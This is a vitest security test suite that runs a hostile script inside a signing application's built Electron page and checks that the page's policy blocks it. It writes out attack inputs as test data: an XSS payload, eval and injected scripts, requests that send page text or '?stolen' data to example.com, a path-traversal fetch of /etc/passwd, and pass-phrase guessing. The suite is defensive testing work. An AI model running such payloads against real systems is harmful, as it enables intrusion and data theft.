import { dirname } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contract, type CallName } from '../../src-main/contract/index.ts';
import { createRouter } from '../../src-main/shell/router.ts';
import { built } from '../support/built.ts';
import { chromium, hosted, type Hosted } from '../support/hosted-page.ts';
import { networkSockets } from '../support/sockets.ts';
import { evaluator, staffed, testServices, type Staffed, type TestServices } from '../support/services.ts';

/**
 * What a script could do that got into the page, while somebody is logged in and a record waits for their signature. The
 * page is the built one, over real services, under the policy of the program.
 */
describe.skipIf(chromium === null)('a hostile script in the page (skipped where no Chromium is installed)', () => {
  let services: TestServices;
  let team: Staffed;
  let host: Hosted;
  let recordId = '';
  const faults: string[] = [];

  const run = (expression: string): Promise<unknown> => host.page.evaluate(expression);
  /** Runs statements as the page's own script would, out of reach of the debugger's privileges; `done` gives the answer. */
  const asScript = (statements: string): Promise<unknown> =>
    run(`new Promise((done) => setTimeout(() => {
      try { ${statements} } catch (error) { done(error.name + ': ' + error.message); }
    }, 0))`);
  /** The directive that a violation of the policy names. */
  const violated = (statements: string): Promise<unknown> =>
    asScript(`
      document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
      ${statements}`);

  beforeAll(async () => {
    services = await testServices();
    team = await staffed(services);
    recordId = await team.sent();
    await team.login(evaluator);
    const router = createRouter(
      services.handlers,
      ({ call, text }) => void faults.push(`${call} ${text}`),
      () => 'TEST',
    );
    host = await hosted(dirname(built('renderer/index.html')), router, "document.querySelector('h1') !== null");
  });
  afterAll(async () => {
    await host.close();
    services.dispose();
  });

  it('has a page to be hostile in: the work list of who is logged in', async () => {
    expect(await run("document.querySelector('h1').textContent")).toBe('Work');
  });

  it('finds no Node, no Electron, and three functions that it cannot replace', async () => {
    expect(
      await run(
        "['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in globalThis)",
      ),
    ).toEqual([]);
    expect(await run('Object.keys(countersign)')).toEqual(['call', 'onLocked', 'onOpened']);
    expect(await run("(countersign.call = () => 'mine', typeof countersign.call({}.x ?? 'app.info', {}).then)")).toBe(
      'function',
    );
    expect(await asScript('globalThis.countersign = {}; done(typeof countersign.call)')).toBe('function');
    expect(await asScript("Object.defineProperty(globalThis, 'countersign', { value: {} }); done('replaced')")).toMatch(
      /^TypeError/,
    );
  });

  describe('cannot turn text into code', () => {
    it.each([
      ['eval', "done(eval('1 + 1'))"],
      ['new Function', "done(new Function('return 1')())"],
      ['a timer with a text', "setTimeout('globalThis.ran = 1', 0); setTimeout(() => done(typeof ran), 50)"],
      ['HTML', "document.body.innerHTML = '<img src=x onerror=alert(1)>'; done('set')"],
      ['HTML beside an element', "document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); done('set')"],
      ['a document written anew', "document.write('<script>1</script>'); done('set')"],
      ['a script with a text', "document.createElement('script').textContent = '1'; done('set')"],
      ['a script from elsewhere', "document.createElement('script').src = 'https://example.com/x.js'; done('set')"],
      ['an object from elsewhere', "document.createElement('object').data = 'https://example.com/'; done('set')"],
      ['a worker of its own making', "new Worker(URL.createObjectURL(new Blob(['1']))); done('started')"],
      ['a page in a frame', "document.createElement('iframe').srcdoc = '<script>1</script>'; done('set')"],
      ['a policy of its own', "trustedTypes.createPolicy('mine', { createHTML: (text) => text }); done('made')"],
      ['the default policy anew', "trustedTypes.createPolicy('default', { createHTML: (text) => text }); done('made')"],
    ])('by %s', async (_way, statements) => {
      expect(await asScript(statements)).toMatch(/^(TypeError|EvalError)/);
    });

    it.each([
      ['an inline handler', "const made = document.createElement('b'); made.setAttribute('onclick', '1'); done('set')"],
      [
        'a module in a data address',
        "import('data:text/javascript,1').then(() => done('ran'), (error) => done(error.name + ': refused'))",
      ],
    ])('by %s', async (_way, statements) => {
      expect(await asScript(statements)).toMatch(/^TypeError/);
    });
  });

  describe('reaches no other place', () => {
    it.each([
      ['fetch', "fetch('https://example.com/').catch(() => undefined)", 'connect-src'],
      [
        'a request with a body',
        "fetch('https://example.com/', { method: 'POST', body: document.body.innerText }).catch(() => undefined)",
        'connect-src',
      ],
      ['a beacon', "navigator.sendBeacon('https://example.com/', 'x')", 'connect-src'],
      ['a web socket', "try { new WebSocket('wss://example.com/') } catch {}", 'connect-src'],
      ['an event source', "new EventSource('https://example.com/')", 'connect-src'],
      ['a picture', "new Image().src = 'https://example.com/x.png?stolen'", 'img-src'],
      [
        'a style sheet',
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.com/x.css' }))",
        'style-src-elem',
      ],
      [
        'a style',
        "document.head.append(Object.assign(document.createElement('style'), { textContent: 'b{background:url(https://example.com/)}' }))",
        'style-src-elem',
      ],
      ['a font', "new FontFace('x', 'url(https://example.com/x.woff2)').load().catch(() => undefined)", 'font-src'],
      [
        'a frame',
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }))",
        'frame-src',
      ],
      [
        'a form',
        "const form = Object.assign(document.createElement('form'), { action: 'https://example.com/', method: 'post' }); document.body.append(form); form.submit()",
        'form-action',
      ],
      [
        'a base address',
        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.com/' }))",
        'base-uri',
      ],
    ])('by %s', async (_way, statements, directive) => {
      expect(await violated(statements)).toBe(directive);
    });

    it.runIf(process.platform === 'linux')(
      'by a peer connection: no address is told, no socket has another end',
      async () => {
        const candidates = await asScript(`
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] });
        const found = [];
        peer.onicecandidate = ({ candidate }) => candidate === null ? done(found) : found.push(candidate.candidate);
        peer.createDataChannel('out');
        peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        setTimeout(() => done(found), 3_000)`);
        expect(candidates).toEqual([]);
        const { sockets } = networkSockets(host.launched.process.pid ?? 0);
        expect(sockets.filter((socket) => !/-> 0+:0+$/.test(socket))).toEqual([]);
      },
    );

    it('by leaving: another address is answered by us, with nothing', async () => {
      const status = await run("fetch('https://countersign.invalid/../../etc/passwd').then(({ status }) => status)");
      expect(status).toBe(404);
      expect(await run("fetch('/%2e%2e/%2e%2e/package.json').then(({ status }) => status)")).not.toBe(200);
    });
  });

  describe('gets nothing signed and no key', () => {
    const call = (name: CallName, input: unknown): Promise<{ ok: boolean; error?: { code: string } }> =>
      run(`countersign.call(${JSON.stringify(name)}, ${JSON.stringify(input)})`) as Promise<{
        ok: boolean;
        error?: { code: string };
      }>;

    it('without the signing pass phrase, though the session is open and the bytes are known [11.200(a)(1)(i), draft 13.3]', async () => {
      const { actions } = await services.ask('records.get', { recordId, revision: null });
      const requirementId = actions.sign.requirementId ?? '';
      const { sha256 } = await services.ask('signing.prepare', { recordId, requirementId });
      const guess = (signingPassPhrase: string) =>
        call('signing.sign', {
          recordId,
          requirementId,
          userName: evaluator.userName,
          signingPassPhrase,
          shown: sha256,
          comment: null,
        });
      expect((await guess('a guess')).error?.code).toBe('signing/wrong-pass-phrase');
      // The login's pass phrase, which a script may have seen typed, is not the key's.
      expect((await guess(evaluator.passPhrase)).error?.code).toBe('signing/wrong-pass-phrase');
      const { requirements } = await services.ask('records.get', { recordId, revision: null });
      expect(requirements.map(({ signedAt }) => signedAt)).toEqual([null, null, null]);
    });

    it('in any answer of any call that needs no more than a record [11.200(a)(2)-(3)]', async () => {
      const answers: string[] = [];
      for (const name of Object.keys(contract) as CallName[]) {
        for (const input of [{}, { recordId }, { recordId, revision: null }]) {
          if (/^(session\.(lock|logout)|vaults\.create)/.test(name)) continue;
          if (!contract[name].input.safeParse(input).success) continue;
          answers.push(JSON.stringify(await call(name, input)));
        }
      }
      expect(answers.length).toBeGreaterThan(40);
      const all = answers.join('\n');
      expect(/PRIVATE KEY|"(pkcs8|privateKey|dataKey|wrappedKey|verifier)"/i.exec(all)).toBeNull();
      expect(all.includes(evaluator.passPhrase)).toBe(false);
    });

    it('by a name that is not in the contract', async () => {
      for (const name of ['__proto__', 'constructor', 'toString', 'signing', '']) {
        expect(
          await run(`countersign.call(${JSON.stringify(name)}, {}).then(() => 'sent', (error) => error.message)`),
        ).toBe(`no such call: ${name}`);
      }
    });
  });

  it('has brought no handler down', () => {
    expect(faults).toEqual([]);
  });
});
